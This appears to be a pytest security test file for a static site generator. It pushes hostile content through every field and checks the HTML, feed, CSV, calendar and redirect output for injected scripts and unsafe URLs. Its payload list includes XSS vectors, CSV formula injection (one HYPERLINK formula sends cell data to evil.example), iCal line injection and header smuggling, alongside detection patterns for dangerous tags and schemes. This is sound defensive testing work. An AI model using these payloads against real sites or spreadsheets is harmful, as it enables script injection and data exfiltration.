"""Nothing that an editor writes becomes a script, a style, a foreign frame, or an unsafe URL in any output.

Every payload goes through every field of every type of the shipped site and the made-up test content. Third-party parsers read the output. A
payload that a field rejects is removed, after a check that the message names its file.
"""

import csv
import io
import json
import pathlib
import re
import subprocess
import sys
import xml.etree.ElementTree as ElementTree

import feedparser
import html5lib
import icalendar
import pytest
import yaml
from sites import IS_TORTURE, command
from test_incremental import make_site, tree

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "Language"))

from hostile import VALUES  # noqa: E402

HTML = "{http://www.w3.org/1999/xhtml}"
MORE_VALUES = [
    # Formulas of spreadsheets, lines of calendars, headers and redirects.
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://evil.example/?x=\"&A1)", "\uff1d1+1",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE", "x\nATTACH:https://evil.example/", "x;CN=evil:mailto:evil@evil.example", "x\\nATTENDEE:y",
    "x\n/* https://evil.example/ 302", "x\n  Set-Cookie: a=b", "/a /b 301", "x\n<url><loc>https://evil.example/</loc></url>",
    # Markdown.
    "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "![x](javascript:alert(1))", "[x](data:text/html,y)", "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)", "[x](vbscript:y 'z')", "<iframe src='https://evil.example/'></iframe>", "<style>*{color:red}</style>",
    "<a href='javascript:alert(1)'>x</a>", "[x](&#106;avascript:alert(1))", "[x](https://e.example/\"onmouseover=\"alert(1))",
    "![\"onerror=\"alert(1)](https://e.example/x.png)", "```\"onclick=\"alert(1)\nx\n```", "# x {#y onclick=alert(1)}", "[^\"><script>]\n\n[^\"><script>]: x",
    "<!-- x --!><script>alert(1)</script>", "<x:y onclick=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi//xlink:href=\"data:x,y\">",
    ":::callout{title=\"<script>alert(1)</script>\" kind=note}\nx\n:::", ":::button{to=\"javascript:alert(1)\" label=x}\n:::",
    ":::video{url=\"https://evil.example/\" title=x embed=\"https://evil.example/\"}\n:::", ":::figure{src=\"javascript:alert(1)\" alt=x}\n:::",
    ":::quote{by=\"' onclick='alert(1)\" source=\"javascript:x\"}\nx\n:::", "> [!NOTE]<script>\n> x", "www.example.org/\"onclick=alert(1)",
    "https://e.example/<script>", "a@b.example?subject=<script>", "|a|\n|-|\n|<script>alert(1)</script>|", "~~<b onclick=x>~~", "- [x] <input autofocus onfocus=alert(1)>",
]
# Longer values make the URL of a list page too long, which is reported at the type.
PAYLOADS = [value for value in VALUES if len(value) < 200] + MORE_VALUES
COLLECTIONS = ["members", "chapters", "briefs", "news", "places", "topics", "events", "adoptions"]


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 100


def filled(fields: dict, payload: str, kinds: set[str]) -> dict:
    """Front matter with the payload in each field of one of the `kinds`, and a valid value in each required field."""
    return {name: value for name, field in fields.items() if (value := value_of(field, payload, kinds)) is not None}


def value_of(field: dict, payload: str, kinds: set[str]) -> object:
    kind = field["type"]
    # The build searches the output for private values, and would find the payloads.
    if field.get("private"):
        return None
    if kind == "list":
        item = value_of(field["of"] | {"required": field.get("required")}, payload, kinds)
        return None if item is None else [item]
    if kind == "record":
        return filled(field["fields"], payload, kinds) or None
    if kind == "map":
        return {payload: payload}
    if kind in kinds:
        return {"src": payload, "alt": payload} if kind == "image" else payload
    if not field.get("required"):
        return None
    fitting = {"text": "Text", "markdown": "Text", "choice": (field.get("of") or [None])[0], "date": "2026-01-02", "reference": "good-government",
               "boolean": True, "email": "press@example.org", "url": "https://example.org/", "integer": 1, "number": 1.5}
    return {"place": "Springfield, ZZ", "brief": "made-up-brief"}.get(field.get("to"), fitting.get(kind))


def write_documents(content: pathlib.Path) -> None:
    """Writes a document for each payload, type, and kind of field."""
    for collection in COLLECTIONS:
        fields = yaml.safe_load((content / collection / "_type.yml").read_text())["fields"]
        kinds = {"text": {"text"}, "markdown": {"markdown"}, "url": {"url"}, "others": {"choice", "image", "reference", "file", "email", "color", "date"}}
        for number, payload in enumerate(PAYLOADS):
            for kind, own in kinds.items():
                if kind != "text" and not IS_TORTURE and number % 3:
                    continue
                values = filled(fields, payload, own)
                if kind == "url":
                    values = json.loads(json.dumps(values).replace(json.dumps(payload), json.dumps("https://example.org/" + payload))) if number % 2 else values
                common = payload if kind == "text" else "Plain"
                values = {"description": common} | ({"title": common} if "title" in fields else {}) | values
                if collection == "members":
                    values |= {"consent": {"published": True}}
                # JSON is valid YAML, except for characters that YAML requires to be escaped.
                front_matter = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())
                text = body(payload) if kind == "markdown" else "Plain.\n"
                (content / collection / f"p{number}-{kind}.md").write_text(f"---\n{front_matter}---\n\n{text}\n")
    for number, payload in enumerate(PAYLOADS):
        for key in ("slug", "aliases", "allow", "template", "link"):
            value = json.dumps([payload] if key in ("aliases", "allow") else payload)
            collection = "news" if key == "link" else "briefs"
            kind = "kind: brief\ntopics: [good-government]\n" if collection == "briefs" else ""
            (content / collection / f"q{number}-{key}.md").write_text(f"---\ntitle: Plain\ndescription: Plain.\n{kind}{key}: {value}\n---\n")


def body(payload: str) -> str:
    return "\n\n".join([payload, f"# {payload}", f"[{payload}](https://example.org/)", f"*{payload}*", f"![{payload}](https://example.org/x.png '{payload}')"])


@pytest.fixture(scope="module")
def output(tmp_path_factory) -> pathlib.Path:
    """The output of the site with every payload that no field rejects. Each rejected payload must be reported with its location."""
    folder = tmp_path_factory.mktemp("payloads")
    make_site(folder)
    write_documents(folder / "content")
    written = len(list((folder / "content").rglob("[pq]*-*.md")))
    for _ in range(6):
        result = subprocess.run(command("output", "--format", "json"), cwd=folder, capture_output=True, text=True, check=False, timeout=300)
        assert result.returncode in (0, 1), result.stderr
        errors = [finding for finding in json.loads(result.stdout) if finding["severity"] == "error"]
        if not errors:
            break
        for path in {error["file"] for error in errors}:
            assert re.search(r"/[pq]\d+-\w+\.md$", path), [error for error in errors if error["file"] == path][:3]
            (folder / path).unlink()
    assert errors == []
    left = list((folder / "content").rglob("[pq]*-*.md"))
    assert len(left) > written / 3
    for collection in COLLECTIONS:
        texts = [path for path in left if path.parent.name == collection and path.name.endswith("-text.md")]
        assert len(texts) > 80, (collection, len(texts))
    return folder / "output"


# Scripts that the shipped templates include.
SCRIPTS = re.compile(r"(/assets/(finder|search)\.[0-9a-f]+\.js|/pagefind/pagefind-ui\.js)$")
FOREIGN = {"iframe", "frame", "object", "embed", "applet", "base", "style", "portal", "fencedframe"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "cite", "background", "ping", "manifest", "xlink:href"}
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\-]*[\x00-\x20]*):", re.I)


def problems(page: ElementTree.Element):
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.removeprefix(HTML)
        name = tag.split("}")[-1].lower()
        if name in FOREIGN:
            yield f"<{name}>"
        if name == "script":
            kind, source = element.get("type"), element.get("src")
            if kind == "application/ld+json":
                json.loads(element.text)
            elif not source or not SCRIPTS.search(source) or element.text:
                yield f"<script src={source}>"
        if name == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            url = re.sub(r"^[\d.]+\s*;\s*url=", "", element.get("content"), flags=re.I)
            if not url.startswith(("/", "https://example.org")):
                yield f"refresh {url}"
        if name == "link" and "stylesheet" in (element.get("rel") or "") and not re.match(r"/(assets|pagefind)/", element.get("href")):
            yield f"style sheet {element.get('href')}"
        for attribute, value in element.attrib.items():
            attribute = attribute.split("}")[-1].lower()
            if attribute.startswith("on") or attribute in ("srcdoc", "style") and name not in STYLED:
                yield f"{name} {attribute}={value[:80]}"
            if attribute in URL_ATTRIBUTES or attribute == "srcset":
                bare = re.sub(r"[\x00-\x20]", "", value)
                scheme = SCHEME.match(bare)
                if scheme and scheme[1].lower() not in ("http", "https", "mailto", "tel", "webcal"):
                    yield f"{name} {attribute}={value[:80]}"


# Elements that have a style attribute in the shipped templates.
STYLED = {"i", "span", "li", "rect", "path", "td", "th", "div"}


def test_html_is_safe(output):
    pages = sorted(output.rglob("*.html"))
    assert len(pages) > 500
    if not IS_TORTURE:
        pages = [page for number, page in enumerate(pages) if number % 4 == 0 or page.stat().st_size > 100_000]
    found = {}
    for path in pages:
        wrong = list(problems(html5lib.parse(path.read_text(encoding="utf-8"))))
        if wrong:
            found[str(path.relative_to(output))] = wrong[:3]
    assert found == {}


def test_feeds_are_safe(output):
    feeds = sorted(output.rglob("feed.xml"))
    assert len(feeds) > 5
    for path in feeds if IS_TORTURE else feeds[:25]:
        root = ElementTree.fromstring(path.read_bytes())
        feed = feedparser.parse(path.read_bytes(), sanitize_html=False, resolve_relative_uris=False)
        assert not feed.bozo, (path, feed.bozo_exception)
        for link in root.iter("link"):
            assert re.match(r"https?://", link.text.strip()), (path, link.text)
        for entry in feed.entries:
            for text in [entry.get("summary", ""), *(content.value for content in entry.get("content", []))]:
                assert list(problems(html5lib.parse(text))) == [], path
    for path in sorted(output.rglob("feed.json"))[:None if IS_TORTURE else 25]:
        for item in json.loads(path.read_text())["items"]:
            assert re.match(r"https?://", item["url"]), (path, item["url"])
            assert list(problems(html5lib.parse(item.get("content_html", "")))) == [], path


def test_exports_are_safe(output):
    for path in output.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    tables = list(output.rglob("*.csv"))
    assert tables
    for path in tables:
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1, path
        for cell in (cell for row in rows for cell in row):
            # Spreadsheet formulas begin with one of these characters, even after spaces (OWASP, CSV injection).
            assert not re.match(r"[=@\t\r]|[+\-](?![\d.]+$)", cell), (path, cell)


def test_calendars_are_safe(output):
    calendars = list(output.rglob("*.ics"))
    assert calendars
    allowed = {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}
    for path in calendars:
        text = path.read_bytes()
        assert all(len(line) <= 75 for line in text.split(b"\r\n")), path
        calendar = icalendar.Calendar.from_ical(text)
        for component in calendar.walk():
            assert component.name in allowed, (path, component.name)
            assert component.errors == [], (path, component.errors)
            assert not {"ATTACH", "ATTENDEE", "ORGANIZER", "X-ALT-DESC"} & set(component.keys()), path


def test_sitemaps_and_redirects_are_safe(output):
    for path in output.glob("sitemap*.xml"):
        for url in ElementTree.fromstring(path.read_bytes()).iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc"):
            assert re.fullmatch(r"https?://[\x21-\x7e]+", url.text), url.text
    redirects = output / "_redirects"
    for line in redirects.read_text().splitlines() if redirects.exists() else []:
        if line and not line.startswith("#"):
            # The query parameters of an old URL are between its path and the target.
            source, *parameters, target, status = line.split(" ")
            assert all("=" in parameter for parameter in parameters), line
            assert source.startswith("/") and target.startswith("/") and not target.startswith("//"), line
            assert status in ("301", "302"), line


def test_no_payload_chooses_an_output_path(output):
    for path in tree(output):
        assert all(part not in ("", ".", "..") and part.isprintable() for part in path.split("/")), path
